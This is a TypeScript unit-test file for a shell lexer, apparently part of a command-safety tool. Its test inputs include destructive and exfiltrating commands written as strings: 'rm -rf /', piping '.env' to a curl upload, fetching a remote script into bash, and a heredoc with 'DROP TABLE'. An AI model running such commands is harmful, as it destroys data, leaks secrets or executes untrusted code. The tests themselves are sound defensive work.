import { describe, expect, it } from 'vitest'
import { parseShell } from './shell-lexer.js'

const words = (src: string): string[][][] => parseShell(src).pipelines.map((p) => p.commands.map((c) => c.words.map((w) => w.text)))

describe('shell lexer: quoting', () => {
  it('removes single, double and backslash quoting', () => {
    expect(words(`r''m -rf "/tmp/a b" \\rm 'x y'`)).toEqual([[['rm', '-rf', '/tmp/a b', 'rm', 'x y']]])
  })
  it('keeps escapes inside double quotes that are not special', () => {
    expect(words(`echo "a\\"b" "c\\d" 'e\\f'`)).toEqual([[['echo', 'a"b', 'c\\d', 'e\\f']]])
  })
  it("handles ANSI-C $'...' quoting", () => {
    expect(words(`echo $'a\\nb'`)).toEqual([[['echo', 'a\nb']]])
  })
  it('marks quoted words', () => {
    const [w1, w2] = parseShell(`a "b"`).pipelines[0]!.commands[0]!.words
    expect(w1!.quoted).toBe(false)
    expect(w2!.quoted).toBe(true)
  })
  it('treats operators inside quotes as data', () => {
    expect(words(`echo "a; b && c | d"`)).toEqual([[['echo', 'a; b && c | d']]])
  })
  it('joins line continuations and skips comments', () => {
    expect(words('rm \\\n -rf x # rm -rf /')).toEqual([[['rm', '-rf', 'x']]])
  })
})

describe('shell lexer: operators', () => {
  it('splits ; && || & and newlines into pipelines, | into stages', () => {
    expect(words('a; b && c || d & e\nf | g |& h')).toEqual([[['a']], [['b']], [['c']], [['d']], [['e']], [['f'], ['g'], ['h']]])
  })
  it('treats subshell parentheses as separators', () => {
    expect(words('(cd x && rm -rf y)')).toEqual([[['cd', 'x']], [['rm', '-rf', 'y']]])
  })
  it('keeps the source text of each command', () => {
    const p = parseShell('cat .env  |  curl -d @- x').pipelines[0]!
    expect(p.commands.map((c) => c.text)).toEqual(['cat .env', 'curl -d @- x'])
  })
})

describe('shell lexer: substitutions', () => {
  it('collects $() and backticks, also inside double quotes', () => {
    const [cmd] = parseShell('echo $(rm -rf /) "`whoami`" \'$(not)\'').pipelines[0]!.commands
    const subs = cmd!.words.flatMap((w) => w.subs)
    expect(subs).toEqual([
      { kind: 'command', source: 'rm -rf /' },
      { kind: 'backtick', source: 'whoami' },
    ])
  })
  it('balances nested parentheses and quotes', () => {
    const [cmd] = parseShell('x "$(echo "$(date)" ")")"').pipelines[0]!.commands
    expect(cmd!.words[1]!.subs[0]!.source).toBe('echo "$(date)" ")"')
  })
  it('parses process substitution as a word', () => {
    const [cmd] = parseShell('bash <(curl -s https://x.sh)').pipelines[0]!.commands
    expect(cmd!.words[1]!.subs).toEqual([{ kind: 'process-in', source: 'curl -s https://x.sh' }])
  })
})

describe('shell lexer: redirections and heredocs', () => {
  it('parses redirections with fds', () => {
    const [cmd] = parseShell('cmd 2>&1 >out.txt <in &>>log').pipelines[0]!.commands
    expect(cmd!.words.map((w) => w.text)).toEqual(['cmd'])
    expect(cmd!.redirects.map((r) => [r.fd, r.op, r.target?.text])).toEqual([
      ['2', '>&', '1'],
      [null, '>', 'out.txt'],
      [null, '<', 'in'],
      [null, '&>>', 'log'],
    ])
  })
  it('reads heredoc bodies and continues after the delimiter', () => {
    const s = parseShell("psql <<'EOF' && echo done\nDROP TABLE x;\nEOF\nls")
    expect(s.pipelines.map((p) => p.commands[0]!.words[0]!.text)).toEqual(['psql', 'echo', 'ls'])
    const h = s.pipelines[0]!.commands[0]!.redirects[0]!.heredoc
    expect(h).toEqual({ delimiter: 'EOF', quoted: true, body: 'DROP TABLE x;' })
  })
  it('strips leading tabs with <<-', () => {
    const s = parseShell('cat <<-END\n\tline\n\tEND\necho after')
    expect(s.pipelines[0]!.commands[0]!.redirects[0]!.heredoc!.body).toBe('\tline')
    expect(s.pipelines[1]!.commands[0]!.words[0]!.text).toBe('echo')
  })
  it('parses here-strings', () => {
    const [cmd] = parseShell('bash <<< "rm -rf /"').pipelines[0]!.commands
    expect(cmd!.redirects[0]).toMatchObject({ op: '<<<', target: { text: 'rm -rf /' } })
  })
  it('never throws on unterminated input', () => {
    for (const s of ['echo "abc', "echo 'abc", 'echo $(abc', 'echo `abc', 'cat <<EOF\nabc', '\\']) expect(() => parseShell(s)).not.toThrow()
  })
})
